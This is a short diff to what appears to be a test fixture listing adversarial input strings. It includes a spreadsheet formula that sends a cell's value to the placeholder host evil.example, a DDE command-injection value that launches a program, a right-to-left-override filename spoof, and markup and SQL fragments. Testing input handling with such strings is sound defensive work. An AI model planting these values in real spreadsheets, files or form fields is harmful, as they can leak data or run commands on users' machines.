@@ -20,7 +20,7 @@ export const hostileTexts: readonly string[] = [
   '=HYPERLINK("http://evil.example/?"&A1,"x")',
   "+1+cmd|' /C calc'!A0",
   '\u202Egnp.exe',
-  'a\u0000b\u001B[31m',
+  'a\u001B[31mb\u0007',
   '<!--',
   ']]>',
   '?x=1&device=other#sql=SELECT%201',
